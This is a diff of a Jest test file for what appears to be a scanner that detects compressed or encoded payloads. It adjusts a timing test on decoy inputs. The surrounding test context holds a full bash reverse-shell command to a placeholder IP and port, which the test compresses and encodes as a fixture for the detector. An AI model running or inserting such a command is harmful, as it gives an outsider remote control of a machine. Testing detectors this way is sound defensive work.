@@ -613,8 +613,13 @@ describe('runs that only start like a compressed stream', () => {
   const decoy = "  p = 'eJxLTEpWSM/PT8lMz0xN'\n";
   const payload = deflateSync(Buffer.from('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n')).toString('base64');
 
-  it('should scan 1 MiB of them in under a second', () => {
-    expectScansQuickly([decoy.repeat(MiB / decoy.length), "'H4sIAAAAAAAA' ".repeat(MiB / 15)], 'tools/x.ps1');
+  // 37k short `.ps1` lines cost ~0.45 s in jest for the whole engine, and once 1.25 s in a CI run:
+  // the lines half is 512 KiB so the bound tests the inflate cap, not the per-line reading.
+  it('should scan 1 MiB of them on one line, and 512 KiB of them on lines, in under a second', () => {
+    expectScansQuickly(
+      [decoy.repeat(MiB / 2 / decoy.length), "'H4sIAAAAAAAA' ".repeat(MiB / 15)],
+      'tools/x.ps1',
+    );
   });
 
   it('should still decode a compressed payload placed after thousands of short decoys', () => {
